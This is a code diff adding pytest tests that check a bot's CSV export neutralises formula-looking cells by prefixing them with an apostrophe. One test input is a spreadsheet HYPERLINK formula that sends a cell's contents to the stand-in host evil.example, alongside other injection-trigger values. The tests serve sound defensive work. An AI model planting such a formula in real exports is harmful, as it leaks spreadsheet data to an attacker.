@@ -13,8 +13,9 @@ from click.testing import CliRunner
 from sqlite_utils import Database
 
 from bot.cli import main
+from bot.models import Mention, Score
 from storage import Store
-from storage.reports import EXPORT_COLUMNS
+from storage.reports import EXPORT_COLUMNS, csv_row
 from tests.support import write_config
 from tests.test_summary import Clock, Seeder
 
@@ -61,6 +62,47 @@ def test_export_csv_to_stdout(env):
     )
     assert first["first_claim_at"] == first["claimed_at"] != ""
     assert first["urgent"] == "True"
+
+
+def test_export_command_keeps_formula_looking_posts_as_text(env):
+    folder, config, store = env
+    when = datetime.now(UTC) - timedelta(hours=1)
+    post = Mention("x", "formula-1", '=HYPERLINK("x","acme")', created_at=when)
+    store.save_batch("x", [(post, Score(10, False, "other", 0.0, []))])
+    out = run("--config", str(config), "--db", store.path, "export", "--since", "24h")
+    texts = [r["text"] for r in csv.DictReader(io.StringIO(out))]
+    assert '\'=HYPERLINK("x","acme")' in texts
+
+
+def test_csv_cells_that_look_like_formulas_stay_text():
+    row = {
+        "id": 7,
+        "author": "@evil",
+        "author_name": "+1 caller",
+        "title": "",
+        "text": '=HYPERLINK("https://evil.example/?"&A1,"refund")',
+        "url": "-2+3",
+        "outcome": "\tcmd",
+        "channel": "\r=1",
+        "sentiment": -0.75,
+        "reasons": ["=bad", "billing"],
+        "claimed_by": None,
+        "urgent": True,
+    }
+    assert csv_row(row) == {
+        "id": 7,
+        "author": "'@evil",
+        "author_name": "'+1 caller",
+        "title": "",
+        "text": '\'=HYPERLINK("https://evil.example/?"&A1,"refund")',
+        "url": "'-2+3",
+        "outcome": "'\tcmd",
+        "channel": "'\r=1",
+        "sentiment": -0.75,
+        "reasons": '["=bad", "billing"]',
+        "claimed_by": None,
+        "urgent": True,
+    }
 
 
 def test_export_jsonl_to_a_file(env):
